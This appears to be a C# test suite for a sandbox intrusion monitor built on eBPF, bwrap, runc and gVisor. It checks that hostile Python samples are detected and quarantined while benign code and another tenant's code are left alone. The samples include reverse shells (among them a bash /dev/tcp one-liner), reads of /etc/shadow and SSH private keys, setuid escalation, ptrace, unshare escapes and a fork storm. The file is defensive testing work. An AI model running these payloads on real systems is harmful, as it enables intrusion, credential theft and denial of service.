using Sandstorm.Core.Contracts;
using Sandstorm.Runtimes;
using Sandstorm.Runtimes.Shield;
using Sandstorm.Shield;

namespace Sandstorm.Shield.Tests;

/// <summary>
/// Real bpftrace, real bwrap, real gVisor: hostile code triggers each default rule and is killed; benign code triggers
/// nothing; a tenant's rule applies to its own sandboxes only.
/// </summary>
[Collection(MonitorCollection.Name)]
public sealed class MonitorTests(MonitorFixture fixture)
{
    // Each hostile program triggers its rule, then would print SURVIVED after a long sleep unless it is killed first.
    // A background child carrying the marker shows that every process of the sandbox is gone, not only the main one.
    private const string Linger = """

        import subprocess, time
        subprocess.Popen(["/bin/sleep", "300", "MARKER"])
        time.sleep(20)
        print("SURVIVED")
        """;

    public static TheoryData<string, string> HostileCode => new()
    {
        { "Crypto miner pool connection", """
            import socket
            s = socket.socket(); s.settimeout(2)
            try: s.connect(("127.0.0.1", 3333))
            except OSError as e: print("connect:", e)
            """ },
        { "Reverse shell", """
            import os, socket
            server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen(1)
            if os.fork() == 0:
                c = socket.create_connection(server.getsockname())
                for fd in (0, 1, 2): os.dup2(c.fileno(), fd)
                os.execv("/bin/sh", ["sh", "-i"])
            peer, _ = server.accept()
            """ },
        { "Reverse shell", """
            import socket, subprocess
            server = socket.socket(); server.bind(("127.0.0.1", 4444)); server.listen(1)
            subprocess.Popen(["/bin/bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"])
            peer, _ = server.accept()
            """ },
        { "Read of credentials", """
            for path in ("/etc/shadow", "/root/.ssh/id_rsa"):
                try: open(path).read()
                except OSError as e: print("open:", e)
            """ },
        { "Privilege escalation attempt", """
            import os
            try: os.setuid(0)
            except OSError as e: print("setuid:", e)
            """ },
        { "Kernel module load", """
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            print("finit_module:", libc.syscall(313, -1, b"", 0), ctypes.get_errno())
            """ },
        { "Ptrace of another process", """
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            print("ptrace:", libc.ptrace(16, 1, 0, 0), ctypes.get_errno())
            """ },
        { "Outbound connection with egress denied", """
            import socket
            s = socket.socket(); s.settimeout(2)
            try: s.connect(("192.0.2.10", 443))
            except OSError as e: print("connect:", e)
            """ },
        { "Sandbox escape attempt", """
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            print("unshare:", libc.unshare(0x00020000), ctypes.get_errno())
            """ },
        { "Fork storm", """
            import os, time
            me, end = os.getpid(), time.time() + 8
            while time.time() < end:
                try: os.fork()
                except OSError: pass
            if os.getpid() != me: os._exit(0)
            """ },
    };

    [Fact]
    public void Monitor_OnThisMachine_HasFullEbpfCoverage()
    {
        // Fails (not skips) where bpftrace cannot run: CI is root with bpftrace installed.
        Assert.True(fixture.Monitor.EbpfCoverage.Level == ShieldCoverageLevel.Full, "eBPF coverage: " + fixture.Monitor.EbpfCoverage);
        Assert.NotNull(fixture.Monitor.GvisorInitConfig);
    }

    [Theory]
    [MemberData(nameof(HostileCode))]
    public Task Bwrap_HostileCode_IsDetectedAndKilled(string rule, string code) => AssertQuarantinedAsync(fixture.Bwrap, rule, code);

    [Theory]
    [MemberData(nameof(HostileCode))]
    public Task Runc_HostileCode_IsDetectedAndKilled(string rule, string code) => AssertQuarantinedAsync(fixture.Runc, rule, code);

    /// <summary>
    /// What gVisor's trace points show: not the syscalls its seccomp filter refuses first (ptrace, module calls, unshare:
    /// refused, not reported), not the type of stdio (reverse shells by command line only), and not fork storms at the
    /// rates gVisor's ptrace platform allows (see docs/shield.md).
    /// </summary>
    public static TheoryData<string, string> GvisorHostileCode
    {
        get
        {
            var data = new TheoryData<string, string>();
            foreach (var row in HostileCode)
            {
                var (rule, code) = ((string)row[0], (string)row[1]);
                if (rule is not ("Kernel module load" or "Ptrace of another process" or "Sandbox escape attempt" or "Fork storm")
                    && !(rule == "Reverse shell" && code.Contains("os.dup2", StringComparison.Ordinal)))
                {
                    data.Add(rule, code);
                }
            }

            return data;
        }
    }

    [Theory]
    [MemberData(nameof(GvisorHostileCode))]
    public Task Gvisor_HostileCode_IsDetectedAndKilled(string rule, string code) => AssertQuarantinedAsync(fixture.Gvisor, rule, code);

    private async Task AssertQuarantinedAsync(ISandboxRuntime runtime, string rule, string code)
    {
        var marker = "shield-" + Guid.NewGuid().ToString("N")[..12];
        var (result, watch) = await fixture.RunAsync(runtime, Languages.Python, code + Linger.Replace("MARKER", marker, StringComparison.Ordinal));

        Assert.NotEqual(ShieldCoverageLevel.None, watch.Coverage.Level);
        Assert.True(watch.Findings.Any(f => f.Rule == rule), $"no '{rule}' finding; {watch.Events} events seen; findings: {string.Join("; ", watch.Findings.Select(f => f.Rule))}; coverage {watch.Coverage}");
        var finding = watch.Findings.First(f => f.Rule == rule);
        Assert.True(watch.Quarantined, $"not quarantined; findings: {string.Join("; ", watch.Findings.Select(f => f.Rule))}; stdout: {result.Stdout}; stderr: {result.Stderr}");
        Assert.NotNull(watch.Findings.Single(f => f.QuarantineLatency is not null).QuarantineLatency);
        Assert.Equal(watch.SandboxId, finding.SandboxId);
        Assert.DoesNotContain("SURVIVED", result.Stdout, StringComparison.Ordinal);
        Assert.False(result.TimedOut);
        Assert.Empty(MonitorFixture.ProcessesWith(marker));
        Console.WriteLine($"{runtime.Name} {rule}: quarantine latency {watch.Findings.Single(f => f.QuarantineLatency is not null).QuarantineLatency!.Value.TotalMilliseconds:F1} ms; {finding.Output}");
    }

    private const string BenignCode = """
        import csv, json, os, sqlite3, subprocess, sys, tempfile, hashlib, re, datetime, collections
        print(open(__file__).read()[:20])
        with open("/scratch/out.json", "w") as f: json.dump({"n": 1}, f)
        print(open("/scratch/out.json").read())
        db = sqlite3.connect(":memory:"); db.execute("create table t(x)"); db.execute("insert into t values (1)")
        with tempfile.NamedTemporaryFile("w", delete=False) as t: t.write("x")
        print(subprocess.run(["ls", "/scratch"], capture_output=True, text=True).stdout.strip())
        print(subprocess.run([sys.executable, "-c", "print(6*7)"], capture_output=True, text=True).stdout.strip())
        print(subprocess.run(["/bin/sh", "-c", "echo hello | tr a-z A-Z"], capture_output=True, text=True).stdout.strip())
        print(hashlib.sha256(b"x").hexdigest()[:8], datetime.date(2020, 1, 1), os.getpid() > 0)
        """;

    [Fact]
    public async Task Bwrap_BenignCode_TriggersNothing()
    {
        var (result, watch) = await fixture.RunAsync(fixture.Bwrap, Languages.Python, BenignCode);

        Assert.Equal(0, result.ExitCode);
        Assert.Contains("HELLO", result.Stdout, StringComparison.Ordinal);
        Assert.Equal(ShieldCoverageLevel.Full, watch.Coverage.Level);
        Assert.Empty(watch.Findings);
        Assert.False(watch.Quarantined);

        // Not vacuous: the monitor saw this sandbox's execs and opens.
        Assert.True(watch.Events >= 4, $"only {watch.Events} events seen");
    }

    [Fact]
    public async Task Gvisor_BenignCode_TriggersNothing()
    {
        var (result, watch) = await fixture.RunAsync(fixture.Gvisor, Languages.Python, BenignCode);

        Assert.Equal(0, result.ExitCode);
        Assert.Contains("HELLO", result.Stdout, StringComparison.Ordinal);
        Assert.Equal(ShieldCoverageLevel.Partial, watch.Coverage.Level);
        Assert.Contains("seccomp", watch.Coverage.Reason, StringComparison.Ordinal);
        Assert.Empty(watch.Findings);
        Assert.True(watch.Events >= 4, $"only {watch.Events} events seen");
    }

    [Fact]
    public async Task Runc_BenignCode_TriggersNothing()
    {
        var (result, watch) = await fixture.RunAsync(fixture.Runc, Languages.Python, BenignCode);

        Assert.Equal(0, result.ExitCode);
        Assert.Equal(ShieldCoverageLevel.Full, watch.Coverage.Level);
        Assert.Empty(watch.Findings);
        Assert.True(watch.Events >= 4, $"only {watch.Events} events seen");
    }

    [Fact]
    public async Task Bwrap_BenignBash_TriggersNothing()
    {
        var (result, watch) = await fixture.RunAsync(fixture.Bwrap, Languages.Bash, "ls -la /scratch; cat /scratch/main.sh > /dev/null; for i in 1 2 3; do echo $i; done; python3 -c 'import json; print(json.dumps([1]))'");

        Assert.Equal(0, result.ExitCode);
        Assert.Empty(watch.Findings);
        Assert.True(watch.Events >= 3, $"only {watch.Events} events seen");
    }

    [Fact]
    public async Task Bwrap_TenantRule_FiresOnlyForItsTenant()
    {
        const string rules = """
            - rule: Listing files
              desc: this tenant forbids ls
              condition: spawned_process and proc.name = ls
              output: ls ran (%proc.cmdline)
              priority: CRITICAL
            """;
        var tenantA = ShieldRules.CompileTenant("tenant-a", rules);
        var tenantB = ShieldRules.CompileTenant("tenant-b", rules.Replace("proc.name = ls", "proc.name = nonexistent-tool", StringComparison.Ordinal));
        const string code = "import subprocess, time\nsubprocess.run(['ls', '/scratch'])\ntime.sleep(5)\nprint('DONE')";

        var (resultA, watchA) = await fixture.RunAsync(fixture.Bwrap, Languages.Python, code, tenantA);
        var (resultB, watchB) = await fixture.RunAsync(fixture.Bwrap, Languages.Python, code, tenantB);

        var finding = Assert.Single(watchA.Findings);
        Assert.Equal("Listing files", finding.Rule);
        Assert.Equal("tenant-a", finding.TenantId);
        Assert.True(watchA.Quarantined);
        Assert.DoesNotContain("DONE", resultA.Stdout, StringComparison.Ordinal);

        Assert.Empty(watchB.Findings);
        Assert.Contains("DONE", resultB.Stdout, StringComparison.Ordinal);
    }
}
